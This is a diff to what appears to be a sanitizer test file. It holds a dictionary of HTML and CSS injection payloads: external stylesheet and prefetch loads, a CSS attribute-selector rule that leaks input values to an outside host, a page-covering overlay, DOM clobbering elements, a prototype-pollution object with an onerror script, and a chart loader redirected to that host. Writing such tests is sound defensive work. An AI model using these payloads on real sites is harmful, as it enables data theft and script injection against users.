@@ -51,7 +51,7 @@ MORE = {
     "link rel": f"<link rel=stylesheet href={FAR}/x.css><link rel=prefetch href={FAR}/y><link rel=import href={FAR}>",
     "css": f"<style>@import '{FAR}';body{{background:url({FAR}/y)}}input[value^=a]{{background:url({FAR}/a)}}</style>",
     "inline css": f"<p style='background:url({FAR}/x);position:fixed;inset:0;z-index:9999'>covered</p>",
-    "clobbering": "<form id=main><input name=body></form><a id=karatCharts><a id=vegaEmbed><img name=getElementById>",
+    "clobbering": "<form id=main><input name=body></form><a id=karatStops><img name=getElementById>",
     "attribute of ours": f"<form data-review={FAR}><button>Save</button></form><a data-item href={FAR}>j</a>",
     "prototype": '{"__proto__": {"innerHTML": "<img src=x onerror=window.__hit=1>"}, "constructor": {"prototype": 1}}',
     "chart specification": f'{{"$schema": "x", "usermeta": {{"embedOptions": {{"loader": {{"baseURL": "{FAR}"}}}}}}}}',
